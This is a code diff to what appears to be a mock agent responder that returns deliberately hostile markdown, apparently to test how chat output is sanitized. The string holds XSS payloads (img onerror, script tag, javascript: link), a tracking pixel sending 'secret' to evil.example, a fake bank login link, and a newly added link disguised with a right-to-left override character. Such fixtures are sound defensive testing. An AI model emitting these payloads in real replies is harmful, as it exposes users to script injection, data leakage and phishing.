@@ -83,7 +83,7 @@ function next(words: string, results: string[]): Said {
     return { text: '**Ada Lovelace** works at *Analytical Engines*.\n\n| field | value |\n|---|---|\n| mail | ada@engines.example |\n\n- knows engines\n- writes `programs`' };
   }
   if (/hostile/i.test(words)) {
-    return { text: 'Look: <img src=x onerror="document.title=\'owned\'"> <script>document.title="owned"</script> ![chart](https://evil.example/pixel.png?q=secret) [your bank](https://evil.example/login) [run](javascript:alert(1)) [mine](https://steward.example/docs)' };
+    return { text: 'Look: <img src=x onerror="document.title=\'owned\'"> <script>document.title="owned"</script> ![chart](https://evil.example/pixel.png?q=secret) [your bank](https://evil.example/login) [run](javascript:alert(1)) [mine](https://steward.example/docs) [pay \u202Ehere](https://moc.elpmaxe.evil.example/)' };
   }
   return { text: 'Hello. I look things up, change records, and ask before anything leaves the house.' };
 }
